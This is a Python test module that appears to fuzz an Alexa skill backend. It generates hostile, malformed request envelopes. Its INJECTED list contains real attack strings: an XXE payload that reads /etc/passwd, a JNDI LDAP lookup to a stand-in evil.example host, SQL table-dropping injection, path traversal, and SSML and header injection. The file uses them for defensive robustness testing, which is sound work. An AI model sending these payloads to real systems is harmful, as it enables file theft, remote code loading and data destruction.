"""Makes requests that no well-meaning sender would send."""

from __future__ import annotations

import json
import random
from typing import Any

from tests.alexa.amazon import NOW, envelope, intent

INJECTED = [
    "</speak><audio src='https://evil.example/x.mp3'/>",
    "<speak>",
    "&",
    "]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "Tom & Ann <3",
    "\x00\x08\x1b[31m\x7f",
    "\ud800",
    "💔" * 500,
    "ﷺ" * 2000,
    "a" * 8000,
    "no " * 2600,
    "{number:phone}",
    "{0.__class__}",
    "%s%n",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE memories; --",
    "../../etc/passwd",
    "stop\nX-Injected: 1",
    "",
    " ",
]
NAMES = [
    "catch_all",
    "bare",
    "hopeless",
    "no",
    "tip_number",
    "forget_me",
    "repeat",
    "slower",
    "AMAZON.YesIntent",
    "AMAZON.FallbackIntent",
    "OrderPizza",
    "",
]
TYPES = [
    "LaunchRequest",
    "IntentRequest",
    "IntentRequest",
    "IntentRequest",
    "SessionEndedRequest",
    "CanFulfillIntentRequest",
]


def request(chance: random.Random) -> bytes:
    """One hostile body: odd values in odd places, parts missing, null, or of another type."""
    text = chance.choice(INJECTED) + str(chance.random())
    slots = {
        name: chance.choice([text, None, 3, [text], {"a": text}])
        for name in ("he", "speech", "refusal", "number", text)
    }
    whole: dict[str, Any] = envelope({**intent(chance.choice(NAMES), **slots), "type": chance.choice(TYPES)})
    whole["request"]["requestId"] = str(chance.random())
    whole["session"]["user"]["userId"] = str(chance.random())
    whole["session"]["attributes"] = chance.choice(
        [
            {},
            None,
            [],
            {"conversation": text},
            {"conversation": '{"pending": "' + chance.choice(["open", "x"]) + '"}'},
            {text: text},
        ]
    )
    for _ in range(chance.randrange(4)):
        _spoil(whole, chance, text)
    return json.dumps(whole).encode()


def _spoil(whole: dict[str, Any], chance: random.Random, text: str) -> None:
    """Replaces one value, somewhere in the envelope."""
    place: Any = whole
    while True:
        name = chance.choice(list(place))
        if isinstance(place[name], dict) and place[name] and chance.random() < 0.8:
            place = place[name]
            continue
        place[name] = chance.choice(
            [None, text, 10**400, -1.5, True, [], {}, [[[]]], {"a": {"b": {}}}, NOW.isoformat()]
        )
        return
